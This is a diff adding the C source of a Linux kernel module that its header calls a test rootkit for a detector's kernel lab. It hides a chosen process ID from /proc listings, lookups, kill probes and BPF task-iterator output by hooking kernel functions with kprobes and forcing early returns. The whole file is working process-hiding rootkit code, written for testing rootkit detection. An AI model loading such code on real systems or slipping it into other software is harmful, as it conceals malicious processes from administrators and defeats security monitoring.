@@ -1,0 +1,148 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * pg_hide_task: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_hidden_task.py).
+ * One process hidden from every view a tool has of it through the kernel's text interfaces,
+ * as the thorough public rootkits do, and left on the kernel's task list:
+ *
+ *   - listings: filldir64() skips the entry named after the pid, so getdents64 of /proc and
+ *     of /proc/<pid>/task leave it out;
+ *   - lookups: proc_pid_lookup() answers ENOENT for it and pid_revalidate() drops a cached
+ *     dentry of it, so stat of /proc/<pid> fails;
+ *   - kill(pid, 0): __x64_sys_kill answers ESRCH;
+ *   - the BPF task iterator's output: bpf_seq_write() drops a record that starts with the pid
+ *     (the seq file read() returns), while the iterator program still runs for the task.
+ *
+ * Each is a kprobe whose pre_handler makes the function return at once (pg_override.h).
+ * With only_iterator=1 only the last one is registered: the iterator's output alone lies.
+ *
+ *   insmod pg_hide_task.ko pid=1234 [only_iterator=1]
+ */
+#include <linux/dcache.h>
+#include <linux/err.h>
+#include <linux/errno.h>
+#include <linux/kernel.h>
+#include <linux/kprobes.h>
+#include <linux/module.h>
+#include <linux/moduleparam.h>
+#include <linux/string.h>
+
+#include "pg_override.h"
+
+static int pid;
+module_param(pid, int, 0444);
+MODULE_PARM_DESC(pid, "the pid hidden from every text view");
+static bool only_iterator;
+module_param(only_iterator, bool, 0444);
+MODULE_PARM_DESC(only_iterator, "filter the task iterator's output only");
+static unsigned long listed, looked_up, killed, iterated;
+module_param(listed, ulong, 0444);
+module_param(looked_up, ulong, 0444);
+module_param(killed, ulong, 0444);
+module_param(iterated, ulong, 0444);
+
+static char name[12];
+static size_t name_len;
+
+static void pg_count(unsigned long *counter)
+{
+	WRITE_ONCE(*counter, READ_ONCE(*counter) + 1);
+}
+
+static bool pg_is_name(const char *s, size_t len)
+{
+	return len == name_len && !memcmp(s, name, len);
+}
+
+/* bool filldir64(struct dir_context *, const char *name, int namlen, ...): true goes on */
+static int pg_filldir(struct kprobe *p, struct pt_regs *regs)
+{
+	if (!pg_is_name((const char *)regs->si, (int)regs->dx))
+		return 0;
+	pg_count(&listed);
+	return pg_override(regs, 1);
+}
+
+static bool pg_dentry_is_hidden(struct pt_regs *regs)
+{
+	const struct dentry *dentry = (const struct dentry *)regs->di;
+
+	return pg_is_name((const char *)dentry->d_name.name, dentry->d_name.len);
+}
+
+/* struct dentry *proc_pid_lookup(struct dentry *, unsigned int) */
+static int pg_lookup(struct kprobe *p, struct pt_regs *regs)
+{
+	if (!pg_dentry_is_hidden(regs))
+		return 0;
+	pg_count(&looked_up);
+	return pg_override(regs, (unsigned long)ERR_PTR(-ENOENT));
+}
+
+/* int pid_revalidate(struct dentry *, unsigned int): 0 drops the cached dentry */
+static int pg_revalidate(struct kprobe *p, struct pt_regs *regs)
+{
+	if (!pg_dentry_is_hidden(regs))
+		return 0;
+	return pg_override(regs, 0);
+}
+
+/* long __x64_sys_kill(const struct pt_regs *): the caller's registers hold the arguments */
+static int pg_kill(struct kprobe *p, struct pt_regs *regs)
+{
+	const struct pt_regs *user = (const struct pt_regs *)regs->di;
+
+	if ((int)user->di != pid)
+		return 0;
+	pg_count(&killed);
+	return pg_override(regs, (unsigned long)-ESRCH);
+}
+
+/* u64 bpf_seq_write(u64 seq, u64 data, u64 len): data is the program's stack */
+static int pg_seq_write(struct kprobe *p, struct pt_regs *regs)
+{
+	if (regs->dx < sizeof(u32) || *(const u32 *)regs->si != (u32)pid)
+		return 0;
+	pg_count(&iterated);
+	return pg_override(regs, 0);
+}
+
+static struct kprobe pg_probes[] = {
+	{ .symbol_name = "filldir64", .pre_handler = pg_filldir },
+	{ .symbol_name = "proc_pid_lookup", .pre_handler = pg_lookup },
+	{ .symbol_name = "pid_revalidate", .pre_handler = pg_revalidate },
+	{ .symbol_name = "__x64_sys_kill", .pre_handler = pg_kill },
+	{ .symbol_name = "bpf_seq_write", .pre_handler = pg_seq_write },
+};
+static struct kprobe *pg_list[ARRAY_SIZE(pg_probes)];
+
+static int pg_first(void)
+{
+	return only_iterator ? ARRAY_SIZE(pg_probes) - 1 : 0;
+}
+
+static int __init pg_hide_task_init(void)
+{
+	int i, err;
+
+	if (pid <= 0)
+		return -EINVAL;
+	name_len = snprintf(name, sizeof(name), "%d", pid);
+	for (i = 0; i < ARRAY_SIZE(pg_probes); i++)
+		pg_list[i] = &pg_probes[i];
+	err = register_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
+	if (err)
+		pr_err("pg_hide_task: register_kprobes: %d\n", err);
+	else
+		pr_info("pg_hide_task: pid %d hidden from every text view\n", pid);
+	return err;
+}
+
+static void __exit pg_hide_task_exit(void)
+{
+	unregister_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
+}
+
+module_init(pg_hide_task_init);
+module_exit(pg_hide_task_exit);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("patchguard lab test rootkit: a process hidden from every text view");
